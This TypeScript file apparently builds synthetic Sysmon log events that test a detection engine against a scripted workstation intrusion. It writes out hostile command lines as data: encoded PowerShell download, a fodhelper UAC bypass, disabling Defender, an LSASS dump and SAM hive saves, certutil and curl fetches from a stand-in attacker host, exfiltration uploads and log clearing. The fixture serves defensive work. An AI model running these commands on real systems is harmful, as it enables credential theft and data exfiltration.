import type { EvtxEvent } from '@svc/engine/testing';
import { at, domain, fullName, hosts, intruder, people, shells } from './company.ts';
import { downloadCommand, encode } from './powershell-story.ts';
import { Random } from './random.ts';
import { type Process, session, SysmonLog } from './sysmon-log.ts';
import { familiar, user } from './sysmon-noise.ts';

const system32 = 'C:\\Windows\\System32\\';
const powershell = `${system32}WindowsPowerShell\\v1.0\\powershell.exe`;
const library = 'C:\\Users\\Public\\Libraries\\hpsvc.dll';
const implantCommand = `"C:\\Windows\\System32\\rundll32.exe" ${library},Start`;
const control = { ip: intruder.address, port: 443 };
const elevated = session(people.finance.account, 0x4f1e3, user.logonTime, 1);

/** The intrusion on the workstation, from the attachment to the cleared logs. */
export function sysmonStory(): readonly EvtxEvent[] {
  const log = new SysmonLog(4471, 4);
  const stager = openAttachment(log);
  const implant = startImplant(log, stager);
  lookAround(log, implant);
  const shell = elevate(log, implant);
  blindDefender(log, shell);
  stealCredentials(log, shell);
  settleIn(log, shell);
  moveToServer(log, shell);
  packAndLeave(log, shell);
  return log.events;
}

function openAttachment(log: SysmonLog): Process {
  const { outlook } = familiar(log);
  const folder = 'C:\\Users\\m.okafor\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7K2QX4ZD\\';
  const document = `${folder}Freight_Invoice_4471.docm`;
  log.writeFile(at('08:52:03.412'), outlook, document);
  log.markDownloaded(at('08:52:03.430'), outlook, document, '[ZoneTransfer]  ZoneId=3');
  const word = log.start(at('08:52:09.087'), {
    image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
    commandLine: `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "${document}" /o ""`,
    parent: outlook,
    directory: folder,
  });
  const vba = 'C:\\Program Files\\Common Files\\Microsoft Shared\\VBA\\VBA7.1\\VBE7.DLL';
  log.loadImage(at('08:52:38.551'), word, vba, 'Microsoft Corporation');
  const stager = log.start(at('08:52:47.233'), {
    image: powershell,
    commandLine: `powershell.exe -nop -w hidden -enc ${encode(downloadCommand)}`,
    parent: word,
    directory: 'C:\\Users\\m.okafor\\Documents\\',
    pid: shells.stager,
  });
  log.createPipe(at('08:52:47.702'), stager, `\\PSHost.134053519672331874.${stager.pid}.DefaultAppDomain.powershell`);
  log.resolve(at('08:52:48.391'), stager, intruder.delivery, `::ffff:${intruder.address};`);
  log.connect(at('08:52:48.467'), stager, { ip: intruder.address, port: 80 });
  return stager;
}

function startImplant(log: SysmonLog, stager: Process): Process {
  log.writeFile(at('08:53:02.104'), stager, library);
  log.changeCreation(at('08:53:02.960'), stager, library, Date.parse('2023-05-05T05:20:11.312Z'), at('08:53:02.104'));
  const implant = log.start(at('08:53:05.518'), {
    image: `${system32}rundll32.exe`,
    commandLine: implantCommand,
    parent: stager,
    directory: 'C:\\Users\\m.okafor\\Documents\\',
  });
  log.loadImage(at('08:53:05.577'), implant, library, null);
  log.createPipe(at('08:53:06.020'), implant, '\\MSSE-4117-server');
  log.resolve(at('08:53:07.745'), implant, intruder.control, `::ffff:${intruder.address};`);
  log.exit(at('08:53:09.310'), stager);
  const random = new Random(60);
  for (let time = at('08:53:07.801'); time < at('10:06:00.000'); time += random.int(215_000, 325_000)) {
    log.connect(time, implant, control);
  }
  const autostart = `HKU\\${people.finance.sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\HPPrintHelper`;
  log.setValue(at('08:53:31.207'), implant, autostart, `rundll32.exe ${library},Start`);
  return implant;
}

function lookAround(log: SysmonLog, implant: Process): void {
  const ask = (clock: string, program: string, command: string): void => {
    const shell = run(log, at(clock), implant, 'cmd.exe', `C:\\Windows\\system32\\cmd.exe /C ${command}`, 900);
    const child = run(log, at(clock) + 62, shell, program, command, 700);
    if (program === 'net.exe')
      run(log, at(clock) + 90, child, 'net1.exe', `C:\\Windows\\system32\\net1${command.slice(3)}`, 590);
  };
  ask('08:55:10.336', 'whoami.exe', 'whoami /all');
  ask('08:55:41.870', 'nltest.exe', 'nltest /domain_trusts');
  ask('08:56:20.114', 'net.exe', 'net group "Domain Admins" /domain');
  ask('08:57:02.658', 'net.exe', 'net view \\\\SRV-FILE02');
}

/** The per-user command of a protocol that an auto-elevated program opens. */
function elevate(log: SysmonLog, implant: Process): Process {
  const key = 'Software\\Classes\\ms-settings\\shell\\open\\command';
  const [time, hive] = [at('09:03:20.205'), `HKU\\${people.finance.sid}_Classes\\ms-settings\\shell\\open\\command`];
  const command = `${powershell} -nop -w hidden -c "cmd.exe"`;
  const add = run(
    log,
    time,
    implant,
    'reg.exe',
    `reg add HKCU\\${key} /ve /d "${command.replaceAll('"', '\\"')}" /f`,
    60,
  );
  log.setValue(time + 31, add, `${hive}\\(Default)`, command);
  const delegate = run(log, time + 840, implant, 'reg.exe', `reg add HKCU\\${key} /v DelegateExecute /f`, 55);
  log.setValue(time + 868, delegate, `${hive}\\DelegateExecute`, '(Empty)');
  const starter = run(
    log,
    time + 3100,
    implant,
    'cmd.exe',
    'C:\\Windows\\system32\\cmd.exe /C start fodhelper.exe',
    400,
  );
  const high = { session: elevated, integrity: 'High' };
  const image = `${system32}fodhelper.exe`;
  const helper = log.brief(time + 3420, { image, commandLine: `"${image}"`, parent: starter, ...high }, 2100);
  const shell = log.start(time + 3890, {
    image: powershell,
    commandLine: command,
    parent: helper,
    pid: shells.elevated,
  });
  run(log, time + 9200, shell, 'reg.exe', 'reg delete HKCU\\Software\\Classes\\ms-settings /f', 70);
  return log.start(time + 4520, { image: `${system32}cmd.exe`, commandLine: 'cmd.exe', parent: shell });
}

function blindDefender(log: SysmonLog, shell: Process): void {
  const time = at('09:04:02.771');
  const command = 'powershell -nop -c "Set-MpPreference -DisableRealtimeMonitoring $true"';
  const start = { image: powershell, commandLine: command, parent: shell, pid: shells.defender };
  log.brief(time, start, 3900);
  const key = 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring';
  log.setValue(time + 3120, familiar(log).defender, key, 'DWORD (0x00000001)');
}

function stealCredentials(log: SysmonLog, shell: Process): void {
  const time = at('09:06:12.448');
  const command = 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 764 C:\\Windows\\Temp\\hp.tmp full';
  const dump = run(log, time, shell, 'rundll32.exe', command, 2700);
  const frames = [
    'SYSTEM32\\ntdll.dll+9f864',
    'System32\\KERNELBASE.dll+4a5a6',
    'System32\\comsvcs.dll+2c1b7',
    'SYSTEM32\\dbgcore.DLL+74a2',
  ];
  log.openLsass(time + 210, dump, 0x1fffff, frames.map((frame) => `C:\\Windows\\${frame}`).join('|'));
  log.writeFile(time + 240, dump, 'C:\\Windows\\Temp\\hp.tmp');
  run(log, at('09:07:30.092'), shell, 'reg.exe', 'reg save HKLM\\SAM C:\\Windows\\Temp\\hps.tmp /y', 330);
  run(log, at('09:07:44.716'), shell, 'reg.exe', 'reg save HKLM\\SYSTEM C:\\Windows\\Temp\\hpy.tmp /y', 1180);
}

function settleIn(log: SysmonLog, shell: Process): void {
  const task = `schtasks /create /tn "HP\\PrintHelper" /tr "rundll32.exe ${library},Start" /sc hourly /ru SYSTEM /f`;
  run(log, at('09:09:05.837'), shell, 'schtasks.exe', task, 420);
}

function moveToServer(log: SysmonLog, shell: Process): void {
  const time = at('09:16:40.519');
  const command = `wmic /node:${hosts.files.name} process call create "cmd.exe /c dir D:\\Finance /s > C:\\Windows\\Temp\\d.txt"`;
  const wmic = run(log, time, shell, 'wbem\\WMIC.exe', command, 2900);
  log.resolve(time + 180, wmic, fullName(hosts.files), `::ffff:${hosts.files.ip};`);
  log.connect(time + 260, wmic, { ip: hosts.files.ip, port: 135, name: fullName(hosts.files) });
  log.connect(time + 410, wmic, { ip: hosts.files.ip, port: 49_669, name: fullName(hosts.files) });
  const share = `net use \\\\${hosts.files.name}\\Finance$ /user:${domain.name}\\${people.admin.account} Kust-och-hav26`;
  const net = run(log, at('09:18:11.602'), shell, 'net.exe', share, 1400);
  run(log, at('09:18:11.640'), net, 'net1.exe', `C:\\Windows\\system32\\net1${share.slice(3)}`, 1300);
}

function packAndLeave(log: SysmonLog, shell: Process): void {
  const folder = 'C:\\Users\\Public\\Libraries\\';
  const fetch = `certutil -urlcache -split -f http://${intruder.delivery}/t/r.exe ${folder}rar.exe`;
  const certutil = run(log, at('09:20:15.386'), shell, 'certutil.exe', fetch, 4100);
  log.resolve(at('09:20:15.510'), certutil, intruder.delivery, `::ffff:${intruder.address};`);
  log.connect(at('09:20:15.561'), certutil, { ip: intruder.address, port: 80 });
  log.writeFile(at('09:20:18.207'), certutil, `${folder}rar.exe`);
  const pack = `rar.exe a -r -hpQ4-frt!9 -v500m ${folder}f.rar \\\\${hosts.files.name}\\Finance$\\*.xlsx`;
  const rar = log.brief(
    at('09:41:26.931'),
    { image: `${folder}rar.exe`, commandLine: pack, parent: shell, directory: folder },
    311_000,
  );
  log.writeFile(at('09:41:27.480'), rar, `${folder}f.part1.rar`);
  const get = `curl.exe -s -o ${folder}rc.exe http://${intruder.delivery}/t/rc.exe`;
  const curl = run(log, at('09:47:31.408'), shell, 'curl.exe', get, 5200);
  log.connect(at('09:47:31.590'), curl, { ip: intruder.address, port: 80 });
  log.writeFile(at('09:47:31.655'), curl, `${folder}rc.exe`);
  const copy = `rc.exe copy ${folder} vault:in --include f.part*.rar --transfers 8 -q`;
  const upload = log.brief(
    at('09:49:02.164'),
    { image: `${folder}rc.exe`, commandLine: copy, parent: shell, directory: folder },
    548_000,
  );
  log.resolve(at('09:49:02.690'), upload, intruder.storage, `::ffff:${intruder.storageAddress};`);
  for (const delay of [610, 655, 702, 748]) {
    log.connect(at('09:49:02.164') + delay, upload, { ip: intruder.storageAddress, port: 443 });
  }
  run(
    log,
    at('10:02:10.025'),
    shell,
    'cmd.exe',
    `cmd /c del /q ${folder}*.rar ${folder}r*.exe C:\\Windows\\Temp\\hp*.tmp`,
    130,
  );
  run(log, at('10:02:33.871'), shell, 'wevtutil.exe', 'wevtutil cl System', 90);
  run(log, at('10:02:37.244'), shell, 'wevtutil.exe', 'wevtutil cl "Windows PowerShell"', 80);
}

/** A program of Windows that ends by itself, in its parent's session. */
function run(
  log: SysmonLog,
  time: number,
  parent: Process,
  program: string,
  commandLine: string,
  lasts: number,
): Process {
  return log.brief(time, { image: `${system32}${program}`, commandLine, parent }, lasts);
}
